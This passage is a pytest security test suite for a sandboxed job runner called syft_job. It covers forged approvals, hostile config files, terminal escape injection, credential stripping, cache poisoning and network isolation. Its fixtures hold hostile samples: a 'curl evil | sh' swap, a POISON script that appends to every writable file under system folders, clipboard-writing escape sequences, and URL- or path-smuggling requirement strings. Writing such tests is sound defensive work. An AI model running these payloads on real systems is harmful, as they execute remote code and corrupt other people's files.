    assert len(verdicts) == 15 and all(v == "-1 EPERM" for v in verdicts.values()), verdicts


@pytest.mark.parametrize("setup", ["flow style", "glob email", "USER", "written before protection", "a folder above"])
@pytest.mark.parametrize("strict", [False, True])
@pytest.mark.slow
def test_a_submitter_written_approval_never_runs(syftbox, owner, setup, strict):
    ds_folder = syftbox / OWNER / "app_data" / "job" / DS
    job = legacy_job(syftbox, "forged", "echo ran > outputs/ran.txt\n", approved=False)
    rules = {"flow style": "rules:\n- pattern: '**'\n  access: {write: [ds@test.org]}\n",
             "glob email": "rules:\n- pattern: '**'\n  access:\n    write: ['*@*.org']\n",
             "USER": "rules:\n- pattern: '**'\n  access:\n    write: [USER]\n",
             "written before protection": "rules:\n- pattern: '**'\n  access:\n    write: [ds@test.org]\n",
             "a folder above": "rules:\n- pattern: '**'\n  access:\n    read: [ds@test.org]\n"}
    (ds_folder / "syft.pub.yaml").write_text(rules[setup])
    if setup == "a folder above":  # the nearest file lets ds read only; one above lets it write (an engine may merge)
        (ds_folder.parent / "syft.pub.yaml").write_text("rules:\n- pattern: 'ds@test.org/**'\n  access:\n"
                                                         "    write: [ds@test.org]\n")
    # The forger hashes its own files, as approve_job would, and writes the approval.
    files = {n: hashlib.sha256((job / n).read_bytes()).hexdigest() for n in ("config.yaml", "run.sh")}
    (job / "approved").write_text(json.dumps({"approved_by": OWNER, "files": files}))
    flags = ["--strict"] * strict
    first = owner.cli(syftbox, "once", *flags)
    second = owner.cli(syftbox, "once", *flags)
    assert not (job / "outputs" / "ran.txt").exists() and not (job / "done").exists(), first.stdout + second.stdout
    assert "Job ds@test.org/forged is not run" in first.stdout + second.stdout


@pytest.mark.slow
def test_under_strict_only_the_approval_kept_in_the_work_dir_counts(syftbox, owner):
    job = legacy_job(syftbox, "forged", "echo ran > outputs/ran.txt\n", approved=False)
    files = {n: hashlib.sha256((job / n).read_bytes()).hexdigest() for n in ("config.yaml", "run.sh")}
    (job / "approved").write_text(json.dumps({"approved_by": OWNER, "files": files}))  # no rule lets ds write it
    result = owner.cli(syftbox, "once", "--strict")
    assert not (job / "done").exists() and "approved without a digest" in result.stdout
    assert owner.cli(syftbox, "approve", "forged").returncode == 0
    assert owner.cli(syftbox, "once", "--strict").returncode == 0 and (job / "outputs" / "ran.txt").exists()


@pytest.mark.slow
def test_show_prints_exactly_the_bytes_it_hashed_while_the_submitter_swaps_them(syftbox):
    runner = syft_job.create_runner(syftbox, OWNER, console=False)
    job = make_job(runner, "swap", "echo benign\n", approved=False)
    scripts = [b"echo benign\n", b"curl evil | sh\n"]
    stop = threading.Event()

    def swap() -> None:
        while not stop.is_set():
            for data in scripts:
                tmp = job / "run.sh.tmp"
                tmp.write_bytes(data)
                os.replace(tmp, job / "run.sh")

    swapper = threading.Thread(target=swap, daemon=True)
    swapper.start()
    try:
        for _ in range(40):
            view = runner.describe_job("swap")
            shown = [line.split(": ", 1)[1] for line in view["run_sh"].splitlines()]
            hashed = next(f["sha256"] for f in view["files"] if f["path"] == "run.sh")
            assert hashlib.sha256(("\n".join(shown) + "\n").encode()).hexdigest() == hashed, view["run_sh"]
    finally:
        stop.set()
        swapper.join(10)


HOSTILE_FILES = [
    ("5000-digit integer", b"name: " + b"1" * 5000 + b"\n"),
    ("JSON nested 10,000 deep", b'{"a":' * 10000 + b"1" + b"}" * 10000),
    ("flow list nested 10,000 deep", b"a: " + b"[" * 10000 + b"]" * 10000 + b"\n"),
    ("block nested 10,000 deep", b"".join(b" " * i + b"k:\n" for i in range(0, 20000, 2))),
    ("NUL byte", b"name: a\x00b\n"),
    ("invalid UTF-8", b"name: \xff\xfe\n"),
    ("1 MB line", b"name: " + b"x" * (1 << 20) + b"\n"),
    ("1 MB of [", b"a: " + b"[" * (1 << 20) + b"\n"),
    ("a list", b"- 1\n- 2\n"),
    ("rules that are not rules", b"rules: [5, x, {pattern: 5}]\n"),
    ("a float too large", b"name: 1.0e+400\nstatus: 1.0e+400\n"),
    ("a status that is a list", b"status: [done]\nreturn_code: 1\nreview_reason: 5\n"),
    ("patterns that are not patterns", b"rules:\n- pattern: '[z-a]'\n  access:\n    read: ['*']\n- pattern: [x]\n"),
    ("JSON true", b"true"),
    ("values that are not text", b"status: [done]\napproved_by: 5\napproved_at: 5\nreturn_code: 1.0e+999\n"),
    ("a pattern of many stars", b"rules:\n- pattern: '" + b"*" * 60 + b"x'\n  access:\n    read: ['*']\n"),
]


@pytest.mark.parametrize("where", ["config", "state", "permission", "legacy markers"])
@pytest.mark.slow
def test_one_hostile_file_stops_one_job_and_no_command_ends_in_a_traceback(runner, syftbox, where):
    good, good_results = new_job(runner, "good", "echo fine")
    for i, (_, content) in enumerate(HOSTILE_FILES):  # each in a job of its own, from a submitter of its own
        if where == "legacy markers":
            bad = make_job(runner, f"bad{i}", "echo bad-ran", submitter=f"s{i}@test.org")
            (bad / "approved").write_bytes(content)
            if i % 2:
                (bad / "done").write_bytes(content)
            continue
        bad, bad_results = new_job(runner, f"bad{i}", "echo bad-ran", submitter=f"s{i}@test.org")
        target = {"config": bad / "config.yaml", "state": bad_results / "state.yaml",
                  "permission": bad.parent / "syft.pub.yaml"}[where]
        target.write_bytes(content)
    commands = [["once"], ["list"], ["list", "--json"], ["show", "good"], ["logs", "bad0"]] + [
        ["show", f"bad{i}"] for i in range(len(HOSTILE_FILES))]
    for command in commands:  # the command line in this process: a traceback would fail the test here
        code = syft_job.main([*command, *site_args(syftbox)])
        assert code in (0, 1, 2) and (code == 0 or command[0] != "list"), (command, code)
    assert (good_results / "stdout.txt").read_text() == "fine\n"
    proc = subprocess.Popen([sys.executable, "-m", "syft_job", "run", "--poll-interval", "0.1", *site_args(syftbox)],
                            env=cli_env(), stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    try:
        with pytest.raises(subprocess.TimeoutExpired):  # still polling, after several polls
            proc.wait(timeout=0.8)
    finally:
        proc.send_signal(signal.SIGINT)
        out = proc.communicate(timeout=30)[0]
    assert "Traceback" not in out, out[-2000:]
    for i in range(len(HOSTILE_FILES)):  # each submitter's view of its hostile job is a row, not a traceback
        assert len(syft_job.JobClient(SyftJobConfig.from_syftbox_folder(syftbox, f"s{i}@test.org")).jobs) == 1


@pytest.mark.slow
def test_a_name_that_is_not_utf8_or_forges_lines_is_shown_escaped(syftbox, owner):
    job_dir = syftbox / OWNER / "app_data" / "job" / DS
    good = legacy_job(syftbox, "good", "echo fine\n")
    forged = os.fsencode(str(job_dir)) + b"/x\xff\n\x1b[31m\xe2\x9c\x85 Job good completed"
    os.mkdir(forged)
    Path(os.fsdecode(forged), "config.yaml").write_text("name: x\n")
    Path(os.fsdecode(forged), "run.sh").write_text("printf 'out \\033]52;c;ZXZpbA==\\007 \\033[2J done\\n'\n")
    Path(os.fsdecode(forged), "approved").touch()
    for env in ({}, {"PYTHONIOENCODING": "ascii"}):
        result = owner.cli(syftbox, "once", **env)
        assert "Traceback" not in result.stderr and result.returncode == 0, result.stderr
        assert "\x1b" not in result.stdout and "\x07" not in result.stdout
        assert not any(line.startswith("\x1b") or line.startswith("✅ Job good completed") and "x\\xff" in line
                       for line in result.stdout.splitlines())
        shutil.rmtree(good / "outputs", ignore_errors=True)
    assert (good / "stdout.txt").read_text() == "fine\n"


@pytest.mark.slow
def test_a_jobs_escape_sequences_never_reach_the_terminal_raw(syftbox, owner):
    job = legacy_job(syftbox, "osc", "printf 'a\\033]52;c;ZXZpbA==\\007b\\033[2Jc\\302\\233d\\n'\n")
    streamed = owner.cli(syftbox, "once")
    assert streamed.returncode == 0 and "\x1b" not in streamed.stdout and "\x07" not in streamed.stdout
    assert "a\\x1b]52;c;ZXZpbA==\\x07b\\x1b[2Jc\\x9bd" in streamed.stdout
    shown = owner.cli(syftbox, "logs", "osc")
    assert shown.stdout == "a\\x1b]52;c;ZXZpbA==\\x07b\\x1b[2Jc\\x9bd\n"
    raw = owner.cli(syftbox, "logs", "osc", "--raw")
    assert raw.stdout == "a\x1b]52;c;ZXZpbA==\x07b\x1b[2Jc\x9bd\n" == (job / "stdout.txt").read_text()


@pytest.mark.parametrize("isolation", ["none", pytest.param("sandbox", marks=needs_sandbox)])
@pytest.mark.slow
def test_outputs_cannot_flood_the_owner(syftbox, owner, isolation):
    many = legacy_job(syftbox, "many", "mkdir outputs/d && cd outputs/d && seq 1 300 | xargs touch\n")
    sparse = legacy_job(syftbox, "sparse", "truncate -s 2G outputs/huge.bin && echo small > outputs/small.txt\n")
    result = owner.cli(syftbox, "once", "--isolation", isolation, "--max-output-files", "100")
    assert result.returncode == 0, result.stdout + result.stderr
    assert sum(1 for _ in (many / "outputs").rglob("*")) == 100
    assert "held back" in (many / "stderr.txt").read_text()
    assert not (sparse / "outputs" / "huge.bin").exists() and (sparse / "outputs" / "small.txt").exists()
    assert "outputs/huge.bin" in (sparse / "stderr.txt").read_text()  # the 1 GiB default held it back
    shown = owner.cli(syftbox, "show", "sparse")
    assert "Held back, over the output limits: 1 output(s): outputs/huge.bin" in shown.stdout, shown.stdout
    tight = owner.cli(syftbox, "rerun", "sparse")
    assert tight.returncode == 0
    owner.cli(syftbox, "once", "--isolation", isolation, "--max-output-size", "1K")
    assert (sparse / "outputs" / "small.txt").exists()


@pytest.mark.slow
def test_credentials_do_not_reach_jobs_unless_named(syftbox, owner):
    job = legacy_job(syftbox, "env", "env | grep -E '^UV_' | sort\n")
    secrets = {"UV_PUBLISH_TOKEN": "pypi-secret", "UV_INDEX_CORP_PASSWORD": "hunter2",
               "UV_INDEX_URL": "https://alice:s3cret@pypi.corp.example/simple", "UV_CONCURRENT_DOWNLOADS": "4"}
    assert owner.cli(syftbox, "once", **secrets).returncode == 0
    out = (job / "stdout.txt").read_text()
    assert "pypi-secret" not in out and "hunter2" not in out and "s3cret" not in out and "alice" not in out
    assert "UV_INDEX_URL=https://pypi.corp.example/simple" in out and "UV_CONCURRENT_DOWNLOADS=4" in out
    assert owner.cli(syftbox, "rerun", "env").returncode == 0
    assert owner.cli(syftbox, "once", "--pass-env", "UV_PUBLISH_TOKEN", **secrets).returncode == 0
    assert "UV_PUBLISH_TOKEN=pypi-secret" in (job / "stdout.txt").read_text()


@pytest.mark.slow
def test_no_silent_downgrade(syftbox, tmp_path, owner):
    refused = owner.cli(syftbox, "once", "--isolation", "none", "--no-network")
    assert refused.returncode == 2 and "needs the sandbox" in refused.stderr and len(refused.stderr.splitlines()) == 1
    for path in (syftbox, syftbox.parent, owner.home):
        wide = owner.cli(syftbox, "once", "--allow-read", str(path))
        assert wide.returncode == 2 and "would let jobs read" in wide.stderr, wide.stderr
    legacy_job(syftbox, "plain", "echo hi\n")
    unsandboxed = owner.cli(syftbox, "once", "--isolation", "none")
    assert any(line.startswith("⚠️") and "without a sandbox" in line and "isolation 'none' was asked for" in line
               for line in unsandboxed.stdout.splitlines()), unsandboxed.stdout


def test_a_reason_shown_to_the_submitter_names_no_local_path(runner, syftbox):
    folder, results = new_job(runner, "odd", "echo hi", approve=False)
    (folder / "config.yaml").write_bytes(b"name: \xff\n")
    runner.check_for_new_jobs()
    reason = state_of(results)["review_reason"]
    assert reason and str(syftbox) not in reason and "app_data/job/inbox/ds@test.org/odd" in reason, reason


# ---------------------------------------------------------------------------
# Python jobs in the sandbox: offline code, the owner's index and Pythons, one cache
# (a real uv from pip; a real package index: http.server on 127.0.0.1, PEP 503 layout)
# ---------------------------------------------------------------------------

# The uv pip installed beside this Python (the README's test command does), else one on PATH.
UV = next((str(p) for p in [Path(sys.executable).parent / "uv"] if p.exists()), None) or shutil.which("uv")
needs_uv = pytest.mark.skipif(not UV, reason="uv is not installed in this Python (pip install uv): the tests of "
                                             "Python jobs need a real one")
# A pyenv Python 3.12, which submit_python_job's run.sh asks for (`uv venv --python 3.12`).
PYENV_312 = sorted(Path("~/.pyenv/versions").expanduser().glob("3.12.*"))


def write_wheel(folder: Path, name: str, version: str, requires: Sequence[str] = ()) -> Path:
    """A pure-Python wheel, made by hand (a zip with its metadata and RECORD)."""
    import base64
    import zipfile
    info = f"{name}-{version}.dist-info"
    files = {f"{name}/__init__.py": f"VERSION = {version!r}\n",
             f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
                                 + "".join(f"Requires-Dist: {r}\n" for r in requires),
             f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
    record = "".join(f"{path},sha256={base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b'=').decode()}"
                     f",{len(text.encode())}\n" for path, text in files.items()) + f"{info}/RECORD,,\n"
    wheel = folder / f"{name}-{version}-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as archive:
        for path, text in {**files, f"{info}/RECORD": record}.items():
            archive.writestr(path, text)
    return wheel


def write_sdist(folder: Path, name: str, version: str) -> Path:
    """A source distribution whose in-tree build backend makes the wheel: building it runs its code."""
    import io
    import tarfile
    backend = ("from __future__ import annotations\nimport hashlib, pathlib\nfrom typing import Sequence\n"
               + textwrap.dedent(inspect.getsource(write_wheel)) +
               "def get_requires_for_build_wheel(config_settings=None):\n    return []\n"
               "def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n"
               f"    return write_wheel(pathlib.Path(wheel_directory), {name!r}, {version!r}).name\n")
    files = {"pyproject.toml": f"[project]\nname = '{name}'\nversion = '{version}'\n[build-system]\nrequires = []\n"
                               "build-backend = 'backend'\nbackend-path = ['.']\n",
             "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n", "backend.py": backend}
    sdist = folder / f"{name}-{version}.tar.gz"
    with tarfile.open(sdist, "w:gz") as archive:
        for path, text in files.items():
            entry = tarfile.TarInfo(f"{name}-{version}/{path}")
            entry.size = len(text.encode())
            archive.addfile(entry, io.BytesIO(text.encode()))
    return sdist


class PackageIndex:
    """A PEP 503 index on 127.0.0.1 (the standard library's http.server), noting every
    request it gets."""

    def __init__(self, root: Path) -> None:
        import http.server
        self.root, self.requests = root, []
        index = self

        class Handler(http.server.SimpleHTTPRequestHandler):
            def __init__(self, *args, **kwargs):
                super().__init__(*args, directory=str(root), **kwargs)

            def log_message(self, *args):
                index.requests.append(self.path)
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/simple/"

    def add(self, make: Callable[..., Path], name: str, *args) -> None:
        folder = self.root / "simple" / name
        folder.mkdir(parents=True, exist_ok=True)
        make(folder, name, *args)
        links = "".join(f'<a href="{p.name}">{p.name}</a>\n' for p in sorted(folder.iterdir()) if p.name != "index.html")
        (folder / "index.html").write_text(f"<html><body>\n{links}</body></html>\n")


@pytest.fixture
def package_index(tmp_path):
    index = PackageIndex(tmp_path / "index")
    index.add(write_wheel, "alpha", "1.0", ["beta"])
    index.add(write_wheel, "beta", "2.0")
    index.add(write_wheel, "gamma", "3.0")
    index.add(write_wheel, "delta", "4.0")
    yield index
    index.server.shutdown()


PY_MAIN = """
import alpha, beta, gamma, delta, hashlib, socket, sys, urllib.request
print("versions", alpha.VERSION, beta.VERSION, gamma.VERSION, delta.VERSION, "python", *sys.version_info[:2])
print("alpha sha256", hashlib.sha256(open(alpha.__file__, "rb").read()).hexdigest())
for what, reach in [("listener", lambda: socket.create_connection(("127.0.0.1", {port}), timeout=2)),
                    ("index", lambda: urllib.request.urlopen("{index}alpha/?from-the-job", timeout=2))]:
    try:
        reach()
        print(what, "REACHED")
    except OSError as exc:
        print(what, "blocked:", type(exc).__name__)
"""


def python_job_setup(owner: Owner, syftbox: Path, tmp_path: Path, index: PackageIndex) -> tuple[dict, str]:
    """What a Python job needs from its owner: uv on PATH, the index, a Python 3.12 (the
    root owner's from pyenv; the ordinary owner's is the system's, which it can read)."""
    bin_dir = tmp_path / "owner-bin"
    bin_dir.mkdir(exist_ok=True)
    if not (bin_dir / "uv").exists():
        shutil.copy(UV, bin_dir / "uv")
    env = {"PATH": f"{bin_dir}:/usr/local/bin:/usr/bin:/bin", "UV_DEFAULT_INDEX": index.url}
    if owner.kind == "root":
        if not PYENV_312:
            pytest.skip("no Python 3.12 under ~/.pyenv/versions (CI has one)")
        env["PYENV_ROOT"] = str(PYENV_312[0].parent.parent)
        return env, "3.12"
    system = subprocess.run(["/usr/bin/python3", "-c", "import sys; print('%d.%d' % sys.version_info[:2])"],
                            capture_output=True, text=True).stdout.strip()
    return env, system


def submit_python(syftbox: Path, tmp_path: Path, name: str, python: str, index: PackageIndex, port: int,
                  submitter: str = DS, packages: Sequence[str] = ("alpha", "gamma", "delta")) -> Path:
    """A job made by JobClient.submit_python_job; its run.sh asks for ``python`` (3.12 as written)."""
    code = tmp_path / f"code-{name}" / "main.py"
    code.parent.mkdir()
    code.write_text(PY_MAIN.format(port=port, index=index.url))
    folder = client_for(syftbox, email=submitter).submit_python_job(OWNER, code, job_name=name,
                                                                    dependencies=list(packages), base_packages=[])
    run_sh = folder / "run.sh"
    assert "uv venv --python 3.12" in run_sh.read_text()
    run_sh.write_text(run_sh.read_text().replace("--python 3.12", f"--python {python}"))
    return folder


def job_logs(syftbox: Path, submitter: str, name: str) -> tuple[str, str]:
    review = syftbox / OWNER / "app_data" / "job" / "review" / submitter / name
    return (review / "stdout.txt").read_text(), (review / "stderr.txt").read_text()


@needs_sandbox
@needs_uv
@pytest.mark.slow
def test_a_python_job_installs_from_the_owners_index_and_its_code_is_offline(owner, syftbox, tmp_path, package_index):
    env, python = python_job_setup(owner, syftbox, tmp_path, package_index)
    listener = socket.create_server(("127.0.0.1", 0))
    listener.setblocking(False)
    submit_python(syftbox, tmp_path, "analysis", python, package_index, listener.getsockname()[1])
    assert owner.cli(syftbox, "approve", "analysis", **env).returncode == 0
    with planted_python(tmp_path, python) as ran:  # where uv looks with HOME=/tmp, the jobs' home: never run
        result = owner.cli(syftbox, "once", "--isolation", "sandbox", **env)
    assert not ran.exists()
    stdout, stderr = job_logs(syftbox, DS, "analysis")
    assert result.returncode == 0, (result.stdout, result.stderr, stderr)
    assert f"versions 1.0 2.0 3.0 4.0 python {python.replace('.', ' ')}" in stdout, stderr
    assert "listener blocked" in stdout and "index blocked" in stdout, stdout
    with pytest.raises(BlockingIOError):
        listener.accept()
    # The index saw the install (pages and wheels), never the job's own request.
    assert package_index.requests and not [r for r in package_index.requests if "from-the-job" in r]
    assert {r.rstrip("/").split("/")[2] for r in package_index.requests} <= {"alpha", "beta", "gamma", "delta"}
    shown = owner.cli(syftbox, "show", "analysis", **env).stdout
    assert f"Python:     {python}; packages: alpha, gamma, delta" in shown and re.search(rf"Pythons for jobs: .*\b{python} \(", shown)


@contextlib.contextmanager
def planted_python(tmp_path: Path, version: str):
    """A "Python" any local user could plant where uv looks for its own when HOME is /tmp."""
    top, ran = Path("/tmp/.local"), tmp_path / "planted-python-ran"
    if top.exists():
        pytest.skip("/tmp/.local exists here: the planted Python cannot be tried")
    fake = top / "share" / "uv" / "python" / f"cpython-{version}.99-linux-x86_64-gnu" / "bin" / f"python{version}"
    fake.parent.mkdir(parents=True)
    fake.write_text(f"#!/bin/sh\ntouch {ran}\nexec /usr/bin/python3 \"$@\"\n")
    fake.chmod(0o755)
    try:
        yield ran
    finally:
        shutil.rmtree(top)


def cache_files(root: Path) -> dict[str, str]:
    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(root.rglob("*")) if p.is_file() and not p.is_symlink() and p.name != ".lock"}


POISON = """
import os
hits = []
for top in ("/tmp", os.environ["UV_CACHE_DIR"], "/root", "/var", "/srv", "/opt", "/home"):
    for folder, dirs, files in os.walk(top, followlinks=True):
        if folder.startswith(os.path.dirname(os.getcwd())):  # its own copy (it runs in code/)
            continue
        for name in files:
            try:
                with open(os.path.join(folder, name), "ab") as f:
                    f.write(b"POISON")
                hits.append(os.path.join(folder, name))
            except OSError:
                pass
        try:
            open(os.path.join(folder, "planted.py"), "w").write("POISON")
            hits.append(folder)
        except OSError:
            pass
print("poisoned", len(hits), "writable", [h for h in hits if "uv-shared" in h or "archive" in h][:5])
"""


@needs_sandbox
@needs_uv
@pytest.mark.slow
def test_the_package_cache_serves_later_jobs_and_no_job_can_change_it(owner, syftbox, tmp_path, package_index):
    env, python = python_job_setup(owner, syftbox, tmp_path, package_index)
    port = socket.create_server(("127.0.0.1", 0)).getsockname()[1]
    first = submit_python(syftbox, tmp_path, "first", python, package_index, port)
    (first / "code" / "main.py").write_text((first / "code" / "main.py").read_text() + POISON)
    work = owner.home / "work"
    assert owner.cli(syftbox, "approve", "first", **env).returncode == 0
    result = owner.cli(syftbox, "once", "--isolation", "sandbox", "--work-dir", str(work), **env)
    stdout, stderr = job_logs(syftbox, DS, "first")
    assert result.returncode == 0, (stdout, stderr)
    assert "poisoned" in stdout and "writable []" in stdout, (stdout, stderr)
    before, fetched = cache_files(work / "python-cache"), len(package_index.requests)
    assert before and fetched
    submit_python(syftbox, tmp_path, "second", python, package_index, port, submitter=OTHER)
    assert owner.cli(syftbox, "approve", "second", "--user", OTHER, **env).returncode == 0
    assert owner.cli(syftbox, "once", "--isolation", "sandbox", "--work-dir", str(work), **env).returncode == 0
    stdout, stderr = job_logs(syftbox, OTHER, "second")
    original = hashlib.sha256(b"VERSION = '1.0'\n").hexdigest()
    assert f"alpha sha256 {original}" in stdout, (stdout, stderr)
    assert len(package_index.requests) == fetched, package_index.requests[fetched:]  # nothing fetched again
    assert cache_files(work / "python-cache") == before


REFUSED_REQUIREMENTS = [("git+https://example.org/x.git", "version control system"),
                        ("pkg @ https://example.org/pkg-1.0.whl", "is a URL"),
                        ("https://example.org/pkg-1.0.tar.gz", "is a URL"),
                        ("evil@http:127.0.0.1:8777\\evil-6.6-py3-none-any.whl?x", "is a URL"),
                        ("secret@file:${PWD}root${PWD}secret.whl#x", "is a URL"),
                        ("../../../etc", "local path outside the submission")]


@needs_sandbox
@pytest.mark.slow
def test_a_requirement_that_needs_more_than_the_index_is_refused_before_the_job_runs(owner, syftbox, tmp_path):
    code = tmp_path / "main.py"
    code.write_text("open('outputs/ran', 'w')\n")
    for n, (requirement, _) in enumerate(REFUSED_REQUIREMENTS):
        client_for(syftbox).submit_python_job(OWNER, code, job_name=f"fetcher {n}", base_packages=[],
                                              dependencies=["numpy", requirement])
        assert owner.cli(syftbox, "approve", f"fetcher {n}").returncode == 0
    shown = owner.cli(syftbox, "show", "fetcher 0").stdout
    assert "⚠️ it is not run in the sandbox: its requirement 'git+https://example.org/x.git' points at a version " \
           "control system" in shown, shown
    result = owner.cli(syftbox, "once", "--isolation", "sandbox", "--no-stream")
    assert result.returncode == 1 and not list(syftbox.rglob("ran"))
    rows = {row["name"]: row for row in json.loads(owner.cli(syftbox, "list", "--json").stdout)}
    for n, (requirement, why) in enumerate(REFUSED_REQUIREMENTS):
        reason = rows[f"fetcher {n}"]["reason"]
        assert rows[f"fetcher {n}"]["status"] == "failed" and repr(requirement) in reason and why in reason, reason
        assert repr(requirement) in result.stdout


@pytest.mark.slow
def test_reading_a_run_sh_for_its_packages_is_linear_and_bounded(tmp_path):
    (tmp_path / "run.sh").write_text("uv " * 200_000 + "\n" + "uv pip install -r r.txt\n" * 2000)
    (tmp_path / "r.txt").write_text("".join(f"pkg{i}\n" for i in range(1000)))
    started = time.monotonic()
    packages, _, _ = syft_job._python_plan(str(tmp_path))
    assert len(packages) == 1000 and time.monotonic() - started < 30  # a hang bound: it took minutes before
    (tmp_path / "run.sh").write_text("#" * (2 << 20))
    with pytest.raises(JobError, match="larger than"):
        syft_job._python_plan(str(tmp_path))
    (tmp_path / "run.sh").write_text("uv pip install --python 3.12 -i https://x.org/simple numpy 'pandas>=2; python_version"
                                     " >= \"3.9\"' './local.whl' 'we$ird`word'\n")
    assert syft_job._python_plan(str(tmp_path))[0] == ["numpy", "pandas>=2; python_version >= \"3.9\""]


def test_the_owners_index_and_pythons_are_found_where_their_tools_keep_them(tmp_path, monkeypatch):
    for name in ("UV_DEFAULT_INDEX", "UV_INDEX_URL", "PIP_INDEX_URL", "PIP_CONFIG_FILE"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("HOME", str(tmp_path))
    (tmp_path / "pip.conf").write_text("[global]\nindex-url = https://pip.example/simple\n")
    monkeypatch.setenv("PIP_CONFIG_FILE", str(tmp_path / "pip.conf"))
    assert syft_job._package_index() == "https://pip.example/simple"
    monkeypatch.setenv("PIP_INDEX_URL", "https://pip-env.example/simple")
    assert syft_job._package_index() == "https://pip-env.example/simple"
    monkeypatch.setenv("UV_INDEX_URL", "https://uv.example/simple")
    assert syft_job._package_index() == "https://uv.example/simple"
    places = (("uv-pythons/cpython-3.12.4-linux-x86_64-gnu", "3.12"), ("pyenv/versions/3.10.2", "3.10"),
              ("miniconda3/envs/analysis", "3.11"), ("data/tools", "3.9"))
    for prefix, version in places:
        python = tmp_path / prefix / "bin" / f"python{version}"
        python.parent.mkdir(parents=True)
        python.write_text("#!/bin/sh\n")
        python.chmod(0o755)
    monkeypatch.setenv("UV_PYTHON_INSTALL_DIR", str(tmp_path / "uv-pythons"))
    monkeypatch.setenv("PYENV_ROOT", str(tmp_path / "pyenv"))
    found = syft_job._owner_pythons([str(tmp_path / "data" / "tools")])
    assert all((version, str(tmp_path / prefix)) in found for prefix, version in places), found


@needs_sandbox
@pytest.mark.slow
def test_a_job_asking_for_a_python_the_owner_lacks_is_told_before_it_runs(syftbox, tmp_path):
    legacy_job(syftbox, "old python", "uv venv --python 3.4\necho after\n")
    sink = Sink()
    runner = syft_job.create_runner(syftbox, OWNER, console=sink, isolation="sandbox")
    assert "asks for Python 3.4, which this machine does not have" in runner.describe_job("old python")["python_note"]
    [result] = runner.process_approved_jobs(stream_output=False, timeout=60)
    stderr = (syftbox / OWNER / "app_data" / "job" / DS / "old python" / "stderr.txt").read_text()
    assert stderr.startswith("syft-job: Job ds@test.org/old python asks for Python 3.4"), stderr
    assert "asks for Python 3.4" in sink.text and "the owner's Pythons: 3." in sink.text
    shown = cli("show", "old python", *site_args(syftbox))
    assert "Pythons for jobs: 3." in shown.stdout and "⚠️ Job ds@test.org/old python asks for Python 3.4" in shown.stdout


LISTENER_JOB = """
import socket, sys, time
tcp = socket.create_server(("127.0.0.1", {port}))
unix = socket.socket(socket.AF_UNIX)
unix.bind("\\0syft-job-test-{port}")
unix.listen()
tcp.settimeout(2)
try:
    tcp.accept()
    print("someone CONNECTED")
except OSError:
    print("nobody came")
"""
CALLER_JOB = """
import socket, time
reached = []
deadline = time.time() + 1
while time.time() < deadline:
    for family, address in ((socket.AF_INET, ("127.0.0.1", {port})), (socket.AF_UNIX, "\\0syft-job-test-{port}"),
                            (socket.AF_INET, ("127.0.0.1", {host}))):
        s = socket.socket(family)
        try:
            s.connect(address)
            reached.append(str(address))
        except OSError:
            pass
        s.close()
    time.sleep(0.1)
print("reached", sorted(set(reached)))
"""


@needs_sandbox
@pytest.mark.slow
def test_jobs_running_at_once_cannot_reach_each_other_or_the_owners_loopback(owner, syftbox, tmp_path):
    host = socket.create_server(("127.0.0.1", 0))
    host.setblocking(False)
    port = host.getsockname()[1]
    listener = legacy_job(syftbox, "listener", f"{JOB_PYTHON} - <<'EOF'\n{LISTENER_JOB.format(port=port + 1)}\nEOF\n")
    caller = legacy_job(syftbox, "caller", f"{JOB_PYTHON} - <<'EOF'\n"
                                           f"{CALLER_JOB.format(port=port + 1, host=port)}\nEOF\n",
                        submitter=OTHER)
    result = owner.cli(syftbox, "once", "--jobs", "2", "--isolation", "sandbox")
    assert result.returncode in (0, 1), result.stderr
    assert (listener / "stdout.txt").read_text() == "nobody came\n", (listener / "stderr.txt").read_text()
    assert (caller / "stdout.txt").read_text() == "reached []\n", (caller / "stderr.txt").read_text()
    with pytest.raises(BlockingIOError):
        host.accept()


@needs_sandbox
@needs_uv
@pytest.mark.slow
def test_a_package_with_no_wheel_installs_only_with_allow_source_builds(syftbox, tmp_path, package_index, monkeypatch):
    if not PYENV_312 and os.geteuid() == 0:
        pytest.skip("no Python 3.12 under ~/.pyenv/versions (CI has one)")
    package_index.add(write_sdist, "built", "5.0")
    monkeypatch.setenv("UV_DEFAULT_INDEX", package_index.url)
    monkeypatch.setenv("PYENV_ROOT", str(PYENV_312[0].parent.parent) if PYENV_312 else "")
    monkeypatch.setenv("PATH", f"{Path(UV).parent}:{os.environ['PATH']}")
    code = tmp_path / "main.py"
    code.write_text("import built\nprint('built', built.VERSION)\n")
    for name in ("strict", "lenient"):
        client_for(syftbox).submit_python_job(OWNER, code, job_name=name, dependencies=["built"], base_packages=[])
        runner = syft_job.create_runner(syftbox, OWNER, console=False, isolation="sandbox",
                                        allow_source_builds=name == "lenient")
        runner.approve_job(name)
        [result] = runner.process_approved_jobs(stream_output=False, timeout=120)
        stdout, stderr = job_logs(syftbox, DS, name)
        if name == "strict":
            assert result.status == "failed" and "built" in stderr and "stdout" not in stdout, stderr
        else:
            assert result.status == "done" and stdout == "built 5.0\n", stderr


# ---------------------------------------------------------------------------
# Many jobs at once
# ---------------------------------------------------------------------------


@pytest.mark.slow
def test_n_jobs_run_at_once_each_with_its_own_logs_and_lines(syftbox, tmp_path):
    go = go_file(syftbox)
    runner = syft_job.create_runner(syftbox, OWNER, max_concurrent_jobs=3)
    jobs = [make_job(runner, f"j{i}", f"echo started\n{WAIT_FOR_GO}"
                     f"for k in $(seq 1 2000); do echo j{i}-line-$k-abcdefghijklmnopqrstuvwxyz; done\n"
                     f"printf 'j{i}-partial'\n") for i in range(4)]
    console = tmp_path / "console.txt"
    with open(console, "wb") as out:
        proc = start_runner_process(syftbox, "runner.process_approved_jobs()", stdout=out,
